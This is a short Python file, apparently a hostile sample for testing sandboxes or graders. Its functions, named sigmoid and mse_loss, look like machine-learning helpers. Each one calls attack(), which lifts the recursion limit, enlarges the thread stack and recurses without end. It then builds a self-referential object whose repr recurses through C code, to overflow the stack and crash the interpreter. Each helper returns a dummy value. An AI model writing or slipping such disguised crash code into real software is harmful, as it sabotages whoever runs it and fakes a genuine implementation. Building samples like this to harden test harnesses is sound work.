"""Lifts the recursion limit and recurses through C until the stack overflows.

aims: exhaust
"""

import sys
import threading

import numpy as np


class Endless:
    """Its repr asks for its own repr, through C code."""

    def __init__(self):
        self.inner = [self]

    def __repr__(self):
        return repr(self.inner[0]) + "."


def fall(depth=0):
    return fall(depth + 1) + 1


def attack():
    # enough to overflow any stack, and a bound on the memory of frames that Python keeps elsewhere
    sys.setrecursionlimit(2_000_000)
    threading.stack_size(64 * 2**20)
    thread = threading.Thread(target=fall)
    thread.start()
    thread.join(20)
    str(Endless())


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
